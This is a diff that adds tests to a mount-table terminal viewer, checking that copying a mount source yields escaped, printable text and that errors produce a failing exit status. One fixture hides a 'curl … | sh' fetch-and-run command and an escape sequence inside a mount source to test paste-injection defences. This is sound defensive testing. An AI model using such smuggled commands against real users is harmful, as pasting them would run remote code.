@@ -298,3 +298,89 @@ async def test_a_large_table_opens_and_moves(size, tmp_path: Path):
         await pilot.press("pagedown", "pagedown", "G", "h", "g", "h")
         assert len(view.rows.state.rows) < 20000
         assert SAMPLES.exists()
+
+
+# --- copying a source: the escaped form, never raw controls -------------------------------------
+
+PASTE_TRAP = "/dev/x\\012curl\\040https://example.invalid/x|sh\\012\x1b[31m"  # \012: the kernel's newline
+HOSTILE_SOURCES = (
+    b"1 0 8:1 / / rw - ext4 /dev/sda1 rw\n"
+    b"2 1 0:2 / /mnt/trap rw - tmpfs " + PASTE_TRAP.encode() + b" rw\n"
+    b"3 1 0:3 / /mnt/bytes rw - tmpfs raw\xff\x9bsrc rw\n"
+)
+
+
+async def _copy_source_of(app: MountscopeApp, target: str) -> str:
+    async with app.run_test(size=(120, 30)) as pilot:
+        await pilot.pause()
+        for _ in range(10):
+            if target_of(app) == target:
+                break
+            await pilot.press("j")
+        assert target_of(app) == target
+        await pilot.press("y")
+        await pilot.pause()
+        copied = app.clipboard
+    assert app.return_code in (None, 0)
+    return copied
+
+
+async def test_y_copies_the_escaped_source_not_its_control_characters(tmp_path: Path):
+    from mountscope.text import safe
+
+    table = tmp_path / "trap.mountinfo"
+    table.write_bytes(HOSTILE_SOURCES)
+    copied = await _copy_source_of(app_for(table), "/mnt/trap")
+    assert copied.isprintable()  # no newline, no escape: pasting it runs nothing
+    assert copied == "/dev/x\\x0acurl https://example.invalid/x|sh\\x0a\\x1b[31m"
+    assert copied == safe(load(str(table)).mounts[1].display_source)  # as displayed
+
+
+async def test_y_on_a_source_that_is_not_utf8_copies_its_escapes(tmp_path: Path):
+    table = tmp_path / "bytes.mountinfo"
+    table.write_bytes(HOSTILE_SOURCES)
+    assert await _copy_source_of(app_for(table), "/mnt/bytes") == "raw\\xff\\x9bsrc"
+
+
+def test_y_in_a_real_terminal_writes_a_printable_osc52_and_the_app_goes_on(tmp_path: Path):
+    import base64
+    import re
+
+    from ptyutil import Terminal
+
+    table = tmp_path / "bytes.mountinfo"
+    table.write_bytes(HOSTILE_SOURCES)
+    term = Terminal([sys.executable, "-m", "mountscope", str(table)], cols=120, rows=30)
+    try:
+        term.wait_for("/mnt/bytes")
+        term.send("G")  # the last row: /mnt/bytes
+        term.wait_for("raw\\xff\\x9bsrc")
+        term.send("y")
+        term.wait_for("copied")
+        payloads = re.findall(rb"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07", bytes(term.raw))
+        assert [base64.b64decode(p).decode() for p in payloads] == ["raw\\xff\\x9bsrc"]
+        assert term.process.poll() is None
+        term.send("q")
+        assert term.wait_exit() == 0
+    finally:
+        term.close()
+
+
+def test_an_unhandled_error_in_the_app_is_a_failing_exit_status(tmp_path: Path):
+    """The app's own status reaches the shell (it exited 0 after a traceback)."""
+    from ptyutil import Terminal
+
+    # A defect stands in as an action that raises: the exit status is what is tested.
+    code = ("import sys\n"
+            "from mountscope.tui import app\n"
+            "def broken(self): raise RuntimeError('a defect')\n"
+            "app.MainScreen.action_copy_source = broken\n"
+            "from mountscope.cli import main\n"
+            "sys.exit(main(sys.argv[1:]))\n")
+    term = Terminal([sys.executable, "-c", code, str(P1)], cols=120, rows=30)
+    try:
+        term.wait_for("/var/task")
+        term.send("y")
+        assert term.wait_exit() != 0
+    finally:
+        term.close()
